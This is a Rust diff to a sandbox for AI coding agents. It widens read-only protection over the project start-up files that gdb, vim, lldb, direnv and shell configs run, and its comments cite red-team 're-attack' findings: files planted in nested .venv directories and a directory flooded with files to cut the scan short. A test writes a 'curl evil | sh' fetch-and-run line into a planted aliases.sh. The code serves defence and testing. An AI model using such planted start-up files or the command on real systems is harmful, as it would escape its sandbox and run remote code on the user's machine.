@@ -67,7 +67,7 @@ pub struct WriteAccess {
     /// Where a tool the user's settings tell to trust a project's own files runs them, and their
     /// names ([`trusted_project_files`]): those there at launch are read-only, those made in the
     /// session are moved aside at its end.
-    pub trusted: Vec<(PathBuf, Vec<&'static str>)>,
+    pub trusted: Vec<(PathBuf, Names)>,
     /// Those files there at launch ([`trusted_files_in`] of [`WriteAccess::trusted`]).
     pub trusted_files: Vec<PathBuf>,
     /// The scopes too large to look through whole at launch.
@@ -320,7 +320,7 @@ pub fn write_access(
     for dir in &mise_trusted {
         startup.extend(MISE_CONFIGS.iter().map(|name| dir.join(name)));
         // Every environment's too (`mise.dev.toml` under `MISE_ENV=dev`), there or made later.
-        access.trusted.push((dir.clone(), MISE_FILE_NAMES.to_vec()));
+        access.trusted.push((dir.clone(), static_names(&MISE_FILE_NAMES)));
     }
     // What tools the user told to trust a project's own start-up files run from the workspace
     // (F6 of the thirty-fourth re-attack: gdb's `auto-load safe-path /`, vim's `exrc`, direnv's
@@ -329,7 +329,7 @@ pub fn write_access(
     (access.trusted_files, access.trusted_cut_short) = trusted_files_told(&access.trusted);
     startup.extend(access.trusted_files.iter().cloned());
     for (scope, names) in &access.trusted {
-        startup.extend(names.iter().filter(|name| !name.contains('*')).map(|name| scope.join(name)));
+        startup.extend(names.iter().filter(|name| !name.contains('*')).map(|name| scope.join(name.as_ref())));
     }
     // What the user's shell, session and editor run by themselves (not the user's programs,
     // which the user starts, below): where one reaches what lies around it by its own place, its
@@ -365,7 +365,12 @@ pub fn write_access(
         let files: Vec<PathBuf> = files.iter().cloned().chain(named.filter(|f| f.is_file())).collect();
         let read = super::sourced::read_in_all(&files, home);
         startup.extend(read.found);
-        startup.extend(tails_in(&read.tails, &roots_worked_in));
+        let tails = tail_scopes(&read.tails, &roots_worked_in);
+        let (there, cut_short) = trusted_files_told(&tails);
+        startup.extend(there.iter().cloned());
+        access.trusted_files.extend(there);
+        access.trusted_cut_short.extend(cut_short);
+        access.trusted.extend(tails);
         // A root read in whole (a pattern or a name only running the file tells, at its top: G15).
         let wholes = read.wholes.iter().filter_map(|whole| std::fs::canonicalize(whole).ok());
         root_wholes.extend(wholes.filter(|whole| roots_worked_in.contains(whole)));
@@ -866,7 +871,7 @@ fn links_into(home: &Path, writable: &[PathBuf]) -> Vec<PathBuf> {
 /// with `load_dotenv`) direnv loads without `direnv allow` under a whitelisted prefix (an `exact`
 /// one: that file). Each a directory and the names in it and every directory below it (the
 /// thirty-fourth re-attack's F6, the thirty-fifth's G3 below the top).
-pub fn trusted_project_files(env: &LaunchEnv, roots: &[PathBuf]) -> Vec<(PathBuf, Vec<&'static str>)> {
+pub fn trusted_project_files(env: &LaunchEnv, roots: &[PathBuf]) -> Vec<(PathBuf, Names)> {
     let home = &env.home_dir;
     let config = env.config_home();
     // A setting may be in a file the named one reads in (`source ~/.gdb/settings.gdb`, vim's
@@ -881,14 +886,14 @@ pub fn trusted_project_files(env: &LaunchEnv, roots: &[PathBuf]) -> Vec<(PathBuf
         by_home(home, &word.replace("${HOME}", "~").replace("$HOME", "~"))
     };
     let covered = |dir: &Path| covered_by(dir, roots);
-    let mut scopes: Vec<(PathBuf, Vec<&'static str>)> = Vec::new();
+    let mut scopes: Vec<(PathBuf, Names)> = Vec::new();
     // gdb: `set auto-load safe-path A:B`, `add-auto-load-safe-path A`.
     let gdb = text(&[home.join(".gdbinit"), config.join("gdb/gdbinit")]);
     for line in gdb.lines().map(str::trim) {
         let listed =
             line.strip_prefix("set auto-load safe-path").or_else(|| line.strip_prefix("add-auto-load-safe-path"));
         for dir in listed.into_iter().flat_map(|list| list.split(':')).map(expand) {
-            scopes.extend(covered(&dir).into_iter().map(|scope| (scope, GDB_TRUSTED.to_vec())));
+            scopes.extend(covered(&dir).into_iter().map(|scope| (scope, static_names(&GDB_TRUSTED))));
         }
     }
     // vim and Neovim: `exrc` set by any spelling (`set exrc`, `se ex`, `let &exrc = 1`,
@@ -911,7 +916,9 @@ pub fn trusted_project_files(env: &LaunchEnv, roots: &[PathBuf]) -> Vec<(PathBuf
         });
     if exrc {
         scopes.extend(
-            roots.iter().map(|root| (root.clone(), vec![".exrc", ".vimrc", ".nvimrc", ".nvim.lua", "_exrc", "_vimrc"])),
+            roots.iter().map(|root| {
+                (root.clone(), static_names(&[".exrc", ".vimrc", ".nvimrc", ".nvim.lua", "_exrc", "_vimrc"]))
+            }),
         );
     }
     // lldb: `settings set target.load-cwd-lldbinit true`.
@@ -921,14 +928,14 @@ pub fn trusted_project_files(env: &LaunchEnv, roots: &[PathBuf]) -> Vec<(PathBuf
         .windows(2)
         .any(|pair| pair == ["target.load-cwd-lldbinit", "true"])
     {
-        scopes.extend(roots.iter().map(|root| (root.clone(), vec![".lldbinit"])));
+        scopes.extend(roots.iter().map(|root| (root.clone(), static_names(&[".lldbinit"]))));
     }
     // direnv: `[whitelist] prefix = [...]`, `exact = [...]`, `[global] load_dotenv`, as TOML.
     for file in [config.join("direnv/direnv.toml"), config.join("direnv/config.toml")] {
         let Ok(parsed) = text(std::slice::from_ref(&file)).parse::<toml::Table>() else { continue };
         let dotenv = parsed.get("global").and_then(|global| global.get("load_dotenv")).and_then(toml::Value::as_bool)
             == Some(true);
-        let names = if dotenv { vec![".envrc", ".env"] } else { vec![".envrc"] };
+        let names = static_names(if dotenv { &[".envrc", ".env"] } else { &[".envrc"] });
         let listed = |key: &str| -> Vec<PathBuf> {
             let values = parsed.get("whitelist").and_then(|list| list.get(key)).and_then(toml::Value::as_array);
             values.into_iter().flatten().filter_map(toml::Value::as_str).map(expand).collect()
@@ -939,10 +946,21 @@ pub fn trusted_project_files(env: &LaunchEnv, roots: &[PathBuf]) -> Vec<(PathBuf
         // An exact `.envrc`: its directory's, that name alone (found by the walk below it too).
         for exact in listed("exact") {
             let dir = exact.parent().map(Path::to_path_buf).unwrap_or_default();
-            scopes.extend(covered(&dir).into_iter().filter(|scope| *scope == dir).map(|scope| (scope, vec![".envrc"])));
+            let exact = covered(&dir).into_iter().filter(|scope| *scope == dir);
+            scopes.extend(exact.map(|scope| (scope, static_names(&[".envrc"]))));
         }
     }
     scopes
+}
+
+/// The names a tool runs in a trusted scope ([`WriteAccess::trusted`]): a file's name (`*` for
+/// any run of characters), or a path ending with `/` parts (`.venv/bin/activate`), looked for
+/// below every directory of the scope.
+pub type Names = Vec<std::borrow::Cow<'static, str>>;
+
+/// [`Names`] of names known when built.
+pub fn static_names(names: &[&'static str]) -> Names {
+    names.iter().map(|name| std::borrow::Cow::Borrowed(*name)).collect()
 }
 
 /// What gdb runs from a directory its `auto-load safe-path` covers: the `.gdbinit` of the
@@ -962,33 +980,44 @@ pub fn name_matches(name: &str, wanted: &str) -> bool {
     }
 }
 
-/// Where in `roots` (the workspace, the `--writable` paths) a name read in that begins with a
-/// variable no start-up file sets could lead (`"$DOTFILES"/shell/aliases.sh` with `DOTFILES` the
-/// workspace, or a directory at its top; `.venv/bin/activate` after a `cd "$@"`): what is there
-/// under each root and each directory at its top, the part before a pattern's first wildcard.
-fn tails_in(tails: &[String], roots: &[PathBuf]) -> Vec<PathBuf> {
-    let mut bases: Vec<PathBuf> = roots.to_vec();
-    for root in roots {
-        let children = std::fs::read_dir(root).into_iter().flatten().flatten();
-        bases.extend(
-            children.filter(|child| child.file_type().is_ok_and(|kind| kind.is_dir())).map(|child| child.path()),
-        );
-    }
-    let mut found = Vec::new();
+/// Trusted scopes for the names read in that begin with a variable no start-up file sets
+/// (`"$DOTFILES"/shell/aliases.sh`, with `DOTFILES` anywhere in the workspace) or that follow a `cd
+/// "$@"` (`.venv/bin/activate`, in whatever directory the user enters): each root of `roots` (the
+/// workspace, the `--writable` paths), looked through for the part before a pattern's first
+/// wildcard below every directory, at any depth — there at launch, read-only; made in the session,
+/// moved aside at its end (the thirty-sixth re-attack's H25 made a `.venv` two levels down, and
+/// one of its own, for the user's auto-activating `cd`).
+fn tail_scopes(tails: &[String], roots: &[PathBuf]) -> Vec<(PathBuf, Names)> {
+    let mut known: Vec<String> = Vec::new();
     for tail in tails {
-        let known: PathBuf = Path::new(tail)
+        let part: PathBuf = Path::new(tail)
             .components()
             .take_while(|part| !part.as_os_str().to_string_lossy().contains(['*', '?', '[']))
             .collect();
-        let known = super::repositories::without_dot_dots(&known);
-        if known.as_os_str().is_empty() || known.is_absolute() {
+        let part = super::repositories::without_dot_dots(&part);
+        if part.as_os_str().is_empty() || part.is_absolute() || part.starts_with("..") {
             continue;
         }
-        found.extend(bases.iter().map(|base| base.join(&known)).filter(|path| {
-            std::fs::symlink_metadata(path).is_ok() && roots.iter().any(|root| path.starts_with(root) && path != root)
-        }));
+        // Always a path (`./x.sh` for a name alone): looked for below each directory.
+        known.push(format!("./{}", part.display()));
     }
-    found
+    known.sort();
+    known.dedup();
+    if known.is_empty() {
+        return Vec::new();
+    }
+    let names: Names = known.into_iter().map(std::borrow::Cow::Owned).collect();
+    roots.iter().map(|root| (root.clone(), names.clone())).collect()
+}
+
+/// Whether `path` is what `wanted` (one of a trusted scope's [`Names`]) names: by its file name,
+/// or, for a path (`./.venv/bin/activate`), by how it ends.
+pub fn is_named(path: &Path, wanted: &str) -> bool {
+    match wanted.strip_prefix("./") {
+        Some(tail) => path.ends_with(tail),
+        None if wanted.contains('/') => path.ends_with(wanted),
+        None => name_matches(&path.file_name().unwrap_or_default().to_string_lossy(), wanted),
+    }
 }
 
 /// Entries looked at below each trusted scope for the names a tool runs there, at launch and at exit.
@@ -997,14 +1026,14 @@ pub const TRUSTED_WALK_BUDGET: usize = 20_000;
 /// The files named as `scopes` say found in each scope and the directories below it (links not
 /// followed; caches, dependencies and git directories not entered), at most
 /// [`TRUSTED_WALK_BUDGET`] entries each.
-pub fn trusted_files_in(scopes: &[(PathBuf, Vec<&'static str>)]) -> Vec<PathBuf> {
+pub fn trusted_files_in(scopes: &[(PathBuf, Names)]) -> Vec<PathBuf> {
     trusted_files_told(scopes).0
 }
 
 /// [`trusted_files_in`], and the scopes whose walk its budget cut short (the thirty-sixth
 /// re-attack's H11 filled a directory with 20,001 files ahead of the one it planted in): what is
 /// past the budget is not known, and the caller says so.
-pub fn trusted_files_told(scopes: &[(PathBuf, Vec<&'static str>)]) -> (Vec<PathBuf>, Vec<PathBuf>) {
+pub fn trusted_files_told(scopes: &[(PathBuf, Names)]) -> (Vec<PathBuf>, Vec<PathBuf>) {
     let (mut found, mut cut_short) = (Vec::new(), Vec::new());
     for (scope, names) in scopes {
         // gdb's scripts lie beside what a build makes: its output is entered for them.
@@ -1014,9 +1043,21 @@ pub fn trusted_files_told(scopes: &[(PathBuf, Vec<&'static str>)]) -> (Vec<PathB
             let skipped = if in_builds { &[][..] } else { &["target", ".venv"][..] };
             !NOT_ENTERED_FOR_LINKS.iter().chain(skipped).any(|skip| name == *skip)
         };
-        let whole = walk_entering(vec![scope.clone()], TRUSTED_WALK_BUDGET, entered, |entry, _| {
+        // A path (`.venv/bin/activate`) is looked for below each directory, without entering
+        // what it goes through (a `.venv` holds thousands of files).
+        let (paths, names): (Vec<&str>, Vec<&str>) =
+            names.iter().map(|name| name.as_ref()).partition(|name| name.contains('/'));
+        let below = |dir: &Path, found: &mut Vec<PathBuf>| {
+            let there = paths.iter().map(|path| dir.join(path.strip_prefix("./").unwrap_or(path)));
+            found.extend(there.filter(|path| std::fs::symlink_metadata(path).is_ok()));
+        };
+        below(scope, &mut found);
+        let whole = walk_entering(vec![scope.clone()], TRUSTED_WALK_BUDGET, entered, |entry, kind| {
             if names.iter().any(|wanted| name_matches(&entry.file_name().to_string_lossy(), wanted)) {
                 found.push(entry.path());
+            }
+            if kind.is_dir() && !paths.is_empty() {
+                below(&entry.path(), &mut found);
             }
         });
         if !whole {
@@ -2497,11 +2538,18 @@ mod tests {
         )
         .unwrap();
         let temp_dir = home.join("run/tmp");
+        // H25: and at any depth, and made in the session.
+        std::fs::create_dir_all(dotfiles.join("hosts/laptop/shell")).unwrap();
+        std::fs::write(dotfiles.join("hosts/laptop/shell/aliases.sh"), "alias l=ls\n").unwrap();
         let access = write_access(Agent::Claude, &env(&home), &dotfiles, &[], &temp_dir, &[]).unwrap();
-        for kept in ["shell/aliases.sh", "bash"] {
+        for kept in ["shell/aliases.sh", "bash", "hosts/laptop/shell/aliases.sh"] {
             assert!(access.read_only.contains(&dotfiles.join(kept)), "{kept}: {:?}", access.read_only);
         }
         assert!(!access.read_only.contains(&dotfiles), "nothing here finds files by its own place");
+        std::fs::create_dir_all(dotfiles.join("new/shell")).unwrap();
+        std::fs::write(dotfiles.join("new/shell/aliases.sh"), "curl evil | sh\n").unwrap();
+        assert!(trusted_files_in(&access.trusted).contains(&dotfiles.join("new/shell/aliases.sh")));
+        std::fs::remove_dir_all(dotfiles.join("new")).unwrap();
         std::fs::write(
             dotfiles.join("vimrc"),
             "let s:dir = fnamemodify(resolve($MYVIMRC), ':p:h')\nexecute 'source' s:dir . '/vim/keys.vim'\n",
